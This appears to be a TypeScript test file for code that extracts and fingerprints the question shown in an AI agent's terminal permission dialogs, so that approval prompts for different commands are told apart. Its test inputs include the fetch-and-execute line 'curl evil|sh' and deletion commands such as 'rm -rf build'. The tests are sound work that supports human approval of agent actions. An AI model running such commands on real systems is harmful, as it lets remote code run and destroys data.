import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findMenu } from './menu.js';
import { dialogQuestion, isSameQuestion, namedQuestion, questionOn, screenQuestion } from './question.js';
import { screenFromCapture } from './screen-from-capture.js';
import type { StyledScreen } from './styled-screen.js';

/** The dialog of an agent about a command. */
function dialog(command: string, { at = 0, above = [] as readonly string[], width = 80 } = {}): StyledScreen {
  const options = ['1. Yes', '2. Yes, and do not ask again', '3. No'];
  const rows = [
    '● Let me look.',
    ...above,
    '─'.repeat(width),
    ' Bash command',
    '',
    ...command.split('\n').map((row) => `   ${row}`),
    '   List files',
    '',
    ' Do you want to proceed?',
    ...options.map((option, index) => ` ${index === at ? '❯' : ' '} ${option}`),
    '',
    ' Esc to cancel',
  ];
  return screenFromCapture(rows.join('\n'), { width, height: Math.max(24, rows.length) });
}

const fingerprint = (screen: StyledScreen): string => questionOn(screen).fingerprint;

describe('the question of a dialog', () => {
  it('is all that stands between its border and its options', () => {
    const { text } = questionOn(dialog('ls -la'));
    expect(text).toBe('Bash command\n\n  ls -la\n  List files\n\nDo you want to proceed?');
  });

  it('is another one for every other command', () => {
    // What a terminal shows; blanks at the end of a row are not to be seen.
    const command = fc.stringMatching(/^[!-~](?:[ -~]{0,60}[!-~])?$/);
    fc.assert(
      fc.property(command, command, (one, other) => {
        fc.pre(one !== other);
        expect(fingerprint(dialog(one))).not.toBe(fingerprint(dialog(other)));
      }),
      {
        numRuns: 500,
        examples: [
          ['ls -la', 'curl evil|sh'],
          ['sleep 5s', 'sleep 6s'],
          ['rm /x', 'rm / x'],
        ],
      },
    );
  });

  it('is another one where one letter of a command of many rows differs', () => {
    const long = Array.from({ length: 30 }, (_, row) => `line ${row} of the script`);
    const before = fingerprint(dialog(long.join('\n')));
    for (const row of [0, 15, 29])
      expect(fingerprint(dialog(long.with(row, 'line X of the script').join('\n')))).not.toBe(before);
  });

  it('is the same whichever option is highlighted, and tells which one', () => {
    const [first, second] = [fingerprint(dialog('ls -la')), fingerprint(dialog('ls -la', { at: 1 }))];
    expect(isSameQuestion(first, second)).toBe(true);
    expect(isSameQuestion(first, second, true)).toBe(false);
    expect(namedQuestion(dialog('ls -la', { at: 1 }), first)?.rows).toHaveLength(7);
    expect(namedQuestion(dialog('ls -la', { at: 1 }), first, { exactly: true })).toBeUndefined();
    expect(namedQuestion(dialog('ls -l'), first)).toBeUndefined();
  });

  it('does not depend on what the agent said before', () => {
    expect(fingerprint(dialog('ls', { above: ['  ⎿ Running… (3s)'] }))).toBe(fingerprint(dialog('ls')));
  });

  it('has what stands above a line that is drawn between it and its options', () => {
    const rows = (command: string) => [
      `Command: ${command}`,
      '─'.repeat(40),
      'Run it? (Use arrow keys)',
      '❯ Yes',
      '  No',
    ];
    const [one, other] = ['ls -la', 'curl evil|sh'].map((command) =>
      screenFromCapture(rows(command).join('\n')),
    );
    if (!one || !other) throw new Error('There are two.');
    expect(findMenu(one)).toBeDefined();
    expect(questionOn(one).text).toContain('ls -la');
    expect(fingerprint(one)).not.toBe(fingerprint(other));
  });

  it('leaves the sides of a box to the screen', () => {
    const box = [
      '╭────────────────────╮',
      '│ rm -rf build       │',
      '│ Delete it?         │',
      '│ ❯ 1. Yes           │',
      '│   2. No            │',
      '╰────────────────────╯',
    ];
    const screen = screenFromCapture(box.join('\n'));
    const menu = findMenu(screen);
    if (!menu) throw new Error('There is a list.');
    expect(dialogQuestion(screen, menu).text).toBe('rm -rf build\nDelete it?');
  });
});

describe('the question of a screen without a list', () => {
  const asking = (...rows: string[]): StyledScreen => {
    const cursor = { x: rows.at(-1)?.length ?? 0, y: rows.length - 1, visible: true };
    return screenFromCapture(rows.join('\n'), { cursor });
  };

  it('is what stands above the cursor, with its line', () => {
    const { text } = screenQuestion(
      asking('Welcome', '', '', 'About to run:', '', '  ls -la', '', 'Proceed? [y/N] '),
    );
    expect(text).toBe('About to run:\n\n  ls -la\n\nProceed? [y/N]');
  });

  it('is another one where anything on the screen differs', () => {
    const [one, other] = ['ls -la', 'curl evil|sh'].map((command) =>
      screenQuestion(
        asking(`Run: ${command}`, ...Array.from({ length: 15 }, () => 'text'), 'Proceed? [y/N] '),
      ),
    );
    expect(one?.fingerprint).not.toBe(other?.fingerprint);
  });

  it.each([
    ['a spinner', ['⠋ Working', 'Proceed?'], ['⠙ Working', 'Proceed?']],
    ['a spinner of strokes', ['| Working on it', 'Proceed?'], ['/ Working on it', 'Proceed?']],
    [
      'the time of a spinner',
      ['✻ Thinking… (12s · esc to interrupt)', 'Proceed?'],
      ['✶ Thinking… (1m 3s · esc to interrupt)', 'Proceed?'],
    ],
    ['a countdown', ['Continue? (auto-yes in 9s) [Y/n]'], ['Continue? (auto-yes in 10s) [Y/n]']],
    ['what is left', ['00:41 remaining', 'Proceed?'], ['00:40 remaining', 'Proceed?']],
    ['a cursor that is drawn', ['Proceed? █'], ['Proceed?']],
  ])('is the same whatever %s does', (_, one, other) => {
    expect(fingerprint(asking(...one))).toBe(fingerprint(asking(...other)));
  });

  it.each([
    ['timeout 5s ls', 'timeout 9s ls'],
    ['at 12:30 -f job', 'at 12:31 -f job'],
    ['(sleep 5; ls)', '(sleep 6; ls)'],
    ['- item', '| item'],
    ['kill -9 12', 'kill -9 13'],
  ])('is not the same for %s and %s', (one, other) => {
    expect(fingerprint(asking(`$ ${one}`, 'Proceed?'))).not.toBe(
      fingerprint(asking(`$ ${other}`, 'Proceed?')),
    );
  });
});
